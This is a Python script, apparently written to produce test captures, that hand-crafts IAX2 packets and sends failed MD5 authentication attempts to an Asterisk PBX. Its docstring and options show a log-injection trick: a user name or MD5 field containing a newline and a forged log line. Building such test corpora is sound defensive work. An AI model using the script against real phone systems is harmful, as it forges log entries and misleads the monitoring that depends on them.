#!/usr/bin/env python3
"""Hand-made IAX2 requests for the chan_iax2 captures in tests/corpus/real/ (not run by tests).

    iaxattack.py --pbx 10.96.0.1:4569 --local 10.96.0.2:4570 new --user 300      # wrong MD5 on a call
    iaxattack.py --pbx 10.96.0.1:4569 --local 10.96.0.2:4570 regreq --user 300   # wrong MD5 on REGREQ
    iaxattack.py ... regreq --user 300 --md5-result $'x\\n[Nov 30 …] …'   # raw MD5 result IE

The user name is sent as raw bytes (IAX2 information elements are not encoded), so
--user $'x\\n[Nov 30 …] …' puts a newline into whatever Asterisk logs it in.
"""
import argparse
import hashlib
import random
import socket
import struct
import time

IAX = 6
NEW, ACK, HANGUP, REJECT, AUTHREQ, AUTHREP = 1, 4, 5, 6, 8, 9
REGREQ, REGAUTH, REGACK, REGREJ, CALLTOKEN = 13, 14, 15, 16, 40
IE_CALLED_NUMBER, IE_USERNAME, IE_CAPABILITY, IE_FORMAT, IE_VERSION = 1, 6, 8, 9, 11
IE_CHALLENGE, IE_MD5_RESULT, IE_REFRESH, IE_CALLTOKEN = 15, 16, 19, 54
NAMES = {1: "NEW", 4: "ACK", 5: "HANGUP", 6: "REJECT", 7: "ACCEPT", 8: "AUTHREQ", 9: "AUTHREP",
         10: "INVAL", 13: "REGREQ", 14: "REGAUTH", 15: "REGACK", 16: "REGREJ", 40: "CALLTOKEN"}


def ie(t, data):
    return bytes([t, len(data)]) + data


def parse_ies(b):
    out, i = {}, 0
    while i + 2 <= len(b):
        t, n = b[i], b[i + 1]
        out[t] = b[i + 2:i + 2 + n]
        i += 2 + n
    return out


class Call:
    def __init__(self, args):
        h, p = args.pbx.rsplit(":", 1)
        self.dst = (h, int(p))
        lh, lp = args.local.rsplit(":", 1)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((lh, int(lp)))
        self.sock.settimeout(2.0)
        self.scall = random.randint(1, 0x7FFF)
        self.dcall = 0
        self.oseq = 0
        self.iseq = 0
        self.t0 = time.time()

    def send(self, sub, ies=b""):
        ts = int((time.time() - self.t0) * 1000) + 3
        hdr = struct.pack("!HHIBBBB", 0x8000 | self.scall, self.dcall, ts, self.oseq, self.iseq, IAX, sub)
        if sub != ACK:  # ACKs are not sequenced
            self.oseq = (self.oseq + 1) & 0xFF
        print(">>", NAMES.get(sub, sub), "(%d bytes)" % (len(hdr) + len(ies)))
        self.sock.sendto(hdr + ies, self.dst)

    def recv(self):
        while True:
            try:
                d, _ = self.sock.recvfrom(4096)
            except socket.timeout:
                print("<< (timeout)")
                return None, {}
            if len(d) < 12 or not d[0] & 0x80:
                continue
            scall, dcall, ts, oseq, iseq, ftype, sub = struct.unpack("!HHIBBBB", d[:12])
            if ftype != IAX:
                continue
            self.dcall = scall & 0x7FFF
            self.iseq = (oseq + 1) & 0xFF
            print("<<", NAMES.get(sub, sub))
            if sub == ACK:
                continue
            return sub, parse_ies(d[12:])


def md5hex(challenge, secret):
    return hashlib.md5(challenge + secret.encode()).hexdigest().encode()


def attempt(args, kind):
    c = Call(args)
    user = args.user.encode("latin-1", "surrogateescape")
    if kind == "new":
        base = (ie(IE_VERSION, struct.pack("!H", 2)) + ie(IE_CALLED_NUMBER, args.exten.encode())
                + ie(IE_USERNAME, user) + ie(IE_FORMAT, struct.pack("!I", 4))
                + ie(IE_CAPABILITY, struct.pack("!I", 4)))
        first = NEW
    else:
        base = ie(IE_USERNAME, user) + ie(IE_REFRESH, struct.pack("!H", 60))
        first = REGREQ
    c.send(first, base + ie(IE_CALLTOKEN, b""))
    sub, ies = c.recv()
    if sub == CALLTOKEN:
        c.oseq = 0
        c.iseq = 0
        c.dcall = 0
        c.send(first, base + ie(IE_CALLTOKEN, ies.get(IE_CALLTOKEN, b"")))
        sub, ies = c.recv()
    if sub in (AUTHREQ, REGAUTH):
        chal = ies.get(IE_CHALLENGE, b"")
        md5 = (args.md5_result.encode("latin-1", "surrogateescape") if args.md5_result is not None
               else md5hex(chal, args.password))
        res = ie(IE_MD5_RESULT, md5)
        if kind == "new":
            c.send(ACK)
            c.send(AUTHREP, res)
        else:
            c.send(REGREQ, ie(IE_USERNAME, user) + res + ie(IE_REFRESH, struct.pack("!H", 60)))
        sub, ies = c.recv()
    if sub is not None:
        c.send(ACK)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--pbx", required=True)
    p.add_argument("--local", required=True)
    p.add_argument("kind", choices=["new", "regreq"])
    p.add_argument("--user", default="300")
    p.add_argument("--password", default="wrong-password")
    p.add_argument("--exten", default="1000")
    p.add_argument("--md5-result", help="MD5 result IE sent as these raw bytes (newlines too)")
    args = p.parse_args()
    attempt(args, args.kind)


if __name__ == "__main__":
    main()
